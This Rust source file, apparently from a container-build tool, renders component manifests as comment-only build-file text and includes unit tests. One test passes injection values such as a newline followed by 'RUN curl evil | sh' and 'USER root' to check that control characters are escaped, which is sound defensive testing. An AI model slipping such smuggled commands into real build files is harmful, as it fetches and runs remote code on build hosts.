use super::{json_pretty, load_manifest, write_atomic, EXIT_SUCCESS};
use rdcc_schema::ComponentManifest;
use std::fs;
use std::path::Path;

/// Build-file content handed over for one component: a comment header naming
/// the image, followed by the canonical manifest as comment lines.
fn render_plan(manifest: &ComponentManifest, source: &Path) -> Result<String, String> {
    let canonical = manifest
        .to_json(2)
        .map_err(|e| format!("JSON serialization failed: {e}"))?;

    let mut out = String::new();
    push_comment(&mut out, "generated by rdcc from", &source.display().to_string());
    push_comment(&mut out, "image:", &manifest.full_image_reference());
    push_comment(&mut out, "type:", manifest.kind().as_str());
    push_comment(&mut out, "arch:", &manifest.arch().join(", "));
    if let Some(deps) = manifest.depends_on() {
        push_comment(&mut out, "depends_on:", &deps.join(", "));
    }
    if manifest.is_heavyweight() {
        out.push_str("# heavyweight\n");
    }
    out.push_str("#\n");
    for line in canonical.lines() {
        out.push_str("# ");
        out.push_str(line);
        out.push('\n');
    }
    Ok(out)
}

/// Append `# <label> <value>` as a single comment line. Control characters in
/// the value are escaped so manifest text can never end the comment.
fn push_comment(out: &mut String, label: &str, value: &str) {
    out.push_str("# ");
    out.push_str(label);
    out.push(' ');
    for c in value.chars() {
        if c.is_control() {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    out.push('\n');
}

fn same_file(a: &Path, b: &Path) -> bool {
    match (fs::canonicalize(a), fs::canonicalize(b)) {
        (Ok(a), Ok(b)) => a == b,
        _ => false,
    }
}

pub fn run(manifest_path: &Path, output: &Path, json: bool) -> Result<u8, String> {
    if output.is_dir() {
        return Err(format!("output path is a directory: {}", output.display()));
    }
    if same_file(manifest_path, output) {
        return Err(format!(
            "output path is the input manifest: {}",
            output.display()
        ));
    }
    let manifest = load_manifest(manifest_path)?;
    let plan = render_plan(&manifest, manifest_path)?;
    write_atomic(output, &plan)?;

    if json {
        let payload = serde_json::json!({
            "status": "written",
            "manifest": manifest_path,
            "output": output,
            "image": manifest.full_image_reference(),
        });
        println!("{}", json_pretty(&payload)?);
    } else {
        println!(
            "wrote {} for {}",
            output.display(),
            manifest.full_image_reference()
        );
    }
    Ok(EXIT_SUCCESS)
}

#[cfg(test)]
mod tests {
    use super::*;
    use rdcc_schema::parse_manifest_str;

    #[test]
    fn plan_embeds_canonical_manifest() {
        let manifest = parse_manifest_str(
            r#"{"image_name": "registry.example/node", "type": "install_component",
                "image_version": "20", "arch": ["amd64"], "depends_on": ["base"],
                "heavyweight": 1}"#,
        )
        .unwrap();
        let plan = render_plan(&manifest, Path::new("node.json")).unwrap();

        assert!(plan.starts_with("# generated by rdcc from node.json\n"));
        assert!(plan.contains("# image: registry.example/node:20\n"));
        assert!(plan.contains("# depends_on: base\n"));
        assert!(plan.contains("# heavyweight\n"));
        assert!(plan.lines().all(|l| l.starts_with('#')));

        let embedded: String = plan
            .lines()
            .skip_while(|l| *l != "#")
            .skip(1)
            .map(|l| l.trim_start_matches("# "))
            .collect::<Vec<_>>()
            .join("\n");
        assert_eq!(parse_manifest_str(&embedded).unwrap(), manifest);
    }

    #[test]
    fn plan_escapes_control_characters_in_header() {
        let manifest = parse_manifest_str(
            r#"{"image_name": "ubuntu\nRUN curl evil | sh", "type": "base\r\nUSER root",
                "image_version": "1", "arch": ["amd64\nUSER root"],
                "depends_on": ["a\tb\nCMD x"]}"#,
        )
        .unwrap();
        let plan = render_plan(&manifest, Path::new("odd\nname.json")).unwrap();

        assert!(
            plan.lines().all(|l| l.starts_with('#')),
            "every line must be a comment:\n{plan}"
        );
        assert!(plan.contains("# image: ubuntu\\nRUN curl evil | sh:1\n"));
        assert!(plan.contains("# arch: amd64\\nUSER root\n"));
        assert!(plan.contains("# depends_on: a\\tb\\nCMD x\n"));
        assert!(plan.starts_with("# generated by rdcc from odd\\nname.json\n"));
    }

    #[test]
    fn plan_omits_absent_optionals() {
        let manifest = parse_manifest_str(
            r#"{"image_name": "ubuntu", "type": "base", "image_version": "24.04", "arch": []}"#,
        )
        .unwrap();
        let plan = render_plan(&manifest, Path::new("base.json")).unwrap();
        assert!(!plan.contains("depends_on"));
        assert!(!plan.contains("heavyweight"));
    }

    #[test]
    fn rejects_directory_output() {
        let dir = tempfile::tempdir().unwrap();
        let err = run(&dir.path().join("m.json"), dir.path(), false).unwrap_err();
        assert!(err.starts_with("output path is a directory"));
    }

    #[test]
    fn rejects_output_that_is_the_manifest() {
        let dir = tempfile::tempdir().unwrap();
        let manifest = dir.path().join("m.json");
        let original =
            r#"{"image_name": "ubuntu", "type": "base", "image_version": "24.04", "arch": []}"#;
        fs::write(&manifest, original).unwrap();

        let alias = dir.path().join(".").join("m.json");
        let err = run(&manifest, &alias, false).unwrap_err();
        assert!(err.starts_with("output path is the input manifest"));
        assert_eq!(fs::read_to_string(&manifest).unwrap(), original);
    }
}
